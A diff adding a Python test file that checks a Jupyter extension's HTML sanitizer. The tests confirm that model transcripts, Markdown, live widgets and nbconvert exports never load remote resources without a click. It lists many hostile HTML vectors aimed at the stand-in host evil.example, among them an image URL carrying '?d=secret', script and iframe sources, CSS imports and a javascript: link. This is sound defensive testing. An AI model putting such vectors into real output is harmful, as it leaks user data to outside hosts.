@@ -1,0 +1,223 @@
+"""Nothing fetches by itself (Python side): `no_fetch_html.safe_html` over every remote-resource
+vector, Markdown (`markdown_html`), the live widgets, the saved `text/html` and a real
+`jupyter nbconvert --to html` of a notebook holding a hostile transcript.
+
+Each check audits the produced HTML with an independent parser (`loading_urls` below): every
+attribute or CSS that would make a browser load something without a click must be absent,
+the remote resource must be a placeholder naming its host with a click-to-open link, and a
+`data:` PNG must still be an inline <img>.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import subprocess
+import sys
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+from support_no_fetch import DATA_PNG, hostile_bundle, hostile_markdown, hostile_messages
+
+from penguin_jupyter.notebook.live_view import LiveView
+from penguin_jupyter.notebook.markdown_html import markdown_html
+from penguin_jupyter.notebook.no_fetch_html import image_html, is_inline_image, placeholder_html, safe_html
+from penguin_jupyter.notebook.transcript_bundle import transcript_mimebundle
+from penguin_jupyter.omni import partial_text
+
+BASE = "http://evil.example:8123"
+HOST = "evil.example"
+
+
+class _Audit(HTMLParser):
+    """Collects what a browser would load from an HTML string without a click."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.loads: list[str] = []
+        self.inline_images: list[str] = []
+        self.links: list[str] = []
+        self._in_style = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self._in_style = tag == "style"
+        for name, value in attrs:
+            value = value or ""
+            if tag == "a" and name == "href":
+                self.links.append(value)
+            elif tag == "img" and name == "src" and is_inline_image(value):
+                self.inline_images.append(value)
+            elif name == "style" and re.search(r"url\(|@import|image-set", value, re.I):
+                self.loads.append(f"<{tag} style={value}>")
+            elif name in ("title", "alt", "class"):
+                continue
+            elif re.search(r"(https?:)?//|^/|\.(png|css|jpg)\b", value, re.I) or (
+                name in ("src", "srcset", "poster", "background", "data", "href", "xlink:href")
+            ):
+                self.loads.append(f"<{tag} {name}={value}>")
+        if tag in ("iframe", "object", "embed", "link", "video", "audio", "svg", "picture", "base", "meta"):
+            self.loads.append(f"<{tag}>")
+
+    def handle_data(self, data: str) -> None:
+        if self._in_style and re.search(r"url\(|@import", data, re.I):
+            self.loads.append(f"<style>{data[:80]}")
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "style":
+            self._in_style = False
+
+
+def audit(markup: str) -> _Audit:
+    checker = _Audit()
+    checker.feed(markup)
+    checker.close()
+    return checker
+
+
+VECTORS = {
+    "img": f'<img src="{BASE}/a.png?d=secret">',
+    "img unquoted": f"<IMG SRC={BASE}/a.png>",
+    "img srcset": f'<img src="data:image/png;base64,AAAA" srcset="{BASE}/a.png 2x">',
+    "picture": f'<picture><source srcset="{BASE}/a.png 1x, {BASE}/b.png 2x"><img src="{BASE}/c.png"></picture>',
+    "video poster": f'<video poster="{BASE}/p.png" src="{BASE}/v.mp4"></video>',
+    "audio": f'<audio src="{BASE}/a.mp3"></audio>',
+    "svg href": f'<svg><image href="{BASE}/s.png"/></svg>',
+    "svg xlink:href": f'<svg><use xlink:href="{BASE}/s.svg#a"/></svg>',
+    "svg style": f"<svg><style>rect {{fill: url({BASE}/f.svg#g)}}</style></svg>",
+    "css url in style attr": f"<div style=\"background-image: url('{BASE}/bg.png')\">x</div>",
+    "css image-set": f"<span style=\"background: image-set('{BASE}/bg.png' 1x)\">x</span>",
+    "css @import in style element": f'<style>@import "{BASE}/x.css";</style>',
+    "css url in style element": f"<style>p {{background: url({BASE}/p.png)}}</style>",
+    "link stylesheet": f'<link rel="stylesheet" href="{BASE}/x.css">',
+    "link prefetch": f'<link rel="prefetch" href="{BASE}/x">',
+    "iframe": f'<iframe src="{BASE}/page"></iframe>',
+    "iframe srcdoc": f"<iframe srcdoc=\"<img src='{BASE}/x.png'>\"></iframe>",
+    "object": f'<object data="{BASE}/o.swf"></object>',
+    "embed": f'<embed src="{BASE}/e.swf">',
+    "table background": f'<table background="{BASE}/t.png"><tr><td background="{BASE}/u.png">c</td></tr></table>',
+    "body background": f'<body background="{BASE}/b.png">x</body>',
+    "input image": f'<input type="image" src="{BASE}/i.png">',
+    "meta refresh": f'<meta http-equiv="refresh" content="0; url={BASE}/r">',
+    "base": f'<base href="{BASE}/">',
+    "script": f'<script src="{BASE}/s.js"></script>',
+    "math": f'<math><mi href="{BASE}/m">x</mi></math>',
+    "anchor ping": f'<a href="{BASE}/ok" ping="{BASE}/ping">link</a>',
+    "unknown element": f'<x-widget src="{BASE}/x.png">text</x-widget>',
+}
+
+
+@pytest.mark.parametrize("markup", VECTORS.values(), ids=VECTORS.keys())
+def test_every_vector_becomes_a_placeholder_naming_the_host(markup):
+    out = safe_html(markup)
+    assert audit(out).loads == [], out
+    assert f"from {HOST}" in out, out
+    assert audit(out).links, out  # something to click (the placeholder, or the link itself)
+
+
+def test_the_audit_catches_each_vector_unsanitized():
+    """The checker used above can fail: every raw vector is reported as a load."""
+    for name, markup in VECTORS.items():
+        if name not in ("anchor ping",):
+            assert audit(markup).loads, name
+
+
+def test_placeholder_is_a_new_tab_link_to_the_url():
+    out = placeholder_html(f"{BASE}/a.png?d=1")
+    assert out.startswith('<a class="pg-remote" href="http://evil.example:8123/a.png?d=1" target="_blank"')
+    assert 'rel="noopener noreferrer nofollow"' in out
+    assert "🖼 image from evil.example — click to open" in out
+    # Anything that is not http(s) is named but never a link.
+    assert "<a" not in placeholder_html("file:///etc/passwd") and "(not loaded)" in placeholder_html("x.png")
+
+
+def test_data_rasters_stay_inline_and_svg_data_does_not():
+    for mime in ("png", "jpeg", "gif", "webp"):
+        src = f"data:image/{mime};base64,iVBORw0KGgo="
+        assert audit(safe_html(f'<img src="{src}">')).inline_images == [src]
+        assert audit(image_html(src)).inline_images == [src]
+    svg = "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="
+    assert "<img" not in safe_html(f'<img src="{svg}">') and "<img" not in image_html(svg)
+    assert "<img" not in image_html("data:text/html;base64,PHA+")
+
+
+def test_links_keep_only_clickable_schemes():
+    out = safe_html('<a href="javascript:alert(1)">x</a><a href="HTTPS://ok.example/">y</a>')
+    assert "javascript" not in out
+    assert '<a href="HTTPS://ok.example/" target="_blank" rel="noopener noreferrer nofollow">y</a>' in out
+
+
+def test_plain_markup_survives_unchanged_in_meaning():
+    markup = (
+        "<p>Hi <strong>there</strong> <code>&lt;img&gt;</code> <span>$</span>5</p><details open><summary>s</summary>"
+        '<pre>a &amp; b</pre></details><table><tr><th style="text-align:right">h</th></tr></table>'
+    )
+    assert safe_html(markup) == markup
+
+
+def test_markdown_images_inline_and_reference_become_placeholders():
+    out = markdown_html(f"![a]({BASE}/one.png) and ![b][r] and ![plot]({DATA_PNG})\n\n[r]: {BASE}/two.png")
+    assert audit(out).loads == []
+    assert out.count(f"image from {HOST} — click to open") == 2
+    assert f'href="{BASE}/one.png"' in out and f'href="{BASE}/two.png"' in out
+    assert audit(out).inline_images == [DATA_PNG]
+
+
+def test_saved_html_of_a_hostile_transcript_loads_nothing():
+    html = transcript_mimebundle(hostile_bundle(BASE))["text/html"]
+    checked = audit(html)
+    assert checked.loads == []
+    assert html.count(f"from {HOST} — click to open") >= 4  # md, reference, tool image, image block
+    assert checked.inline_images == [DATA_PNG, DATA_PNG]  # the tool's plot and the Markdown plot
+
+
+def _html_values(widget) -> list[str]:
+    values, pending = [], [widget]
+    while pending:
+        node = pending.pop()
+        pending.extend(getattr(node, "children", ()) or ())
+        if hasattr(node, "value") and isinstance(node.value, str):
+            values.append(node.value)
+    return values
+
+
+async def test_live_widgets_of_a_hostile_task_load_nothing():
+    view = LiveView({"session_id": "s"}, lambda: None, redact=lambda s: s)
+    text = hostile_markdown(BASE) + f"\n\n<img src={BASE}/raw.png>\n\n![x]({BASE}/late.png)"
+    # Streamed in small chunks: every intermediate render is audited, not just the last one.
+    for start in range(0, len(text), 37):
+        view.handle(partial_text("delta", text[start : start + 37]))
+        view.scope.flush()
+        for value in _html_values(view.display_object()):
+            assert audit(value).loads == [], value
+    for message in hostile_messages(BASE):
+        view.handle(message)
+    view.finish("completed")
+    await asyncio.sleep(0)
+    values = _html_values(view.display_object())
+    joined = "".join(values)
+    assert all(audit(value).loads == [] for value in values)
+    assert f"image from {HOST} — click to open" in joined
+    assert any(audit(value).inline_images == [DATA_PNG] for value in values)
+
+
+def test_nbconvert_html_of_a_hostile_notebook_loads_nothing_from_the_model(tmp_path):
+    cell = nbformat.v4.new_code_cell("%%penguin\nsummarize the report")
+    cell.outputs = [nbformat.v4.new_output("display_data", data=transcript_mimebundle(hostile_bundle(BASE)))]
+    path = tmp_path / "hostile.ipynb"
+    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), path)
+    subprocess.run(
+        [sys.executable, "-m", "jupyter", "nbconvert", "--to", "html", str(path)],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    page = (tmp_path / "hostile.html").read_text()
+    start = page.index('<div class="penguin-transcript-html">')
+    transcript = page[start:]
+    # Inside the transcript nothing loads; in the whole page, the model's host is only ever a link.
+    assert audit(transcript).loads == []
+    whole = audit(page)
+    assert [load for load in whole.loads if HOST in load] == []
+    assert f"image from {HOST} — click to open" in transcript
+    assert DATA_PNG in whole.inline_images
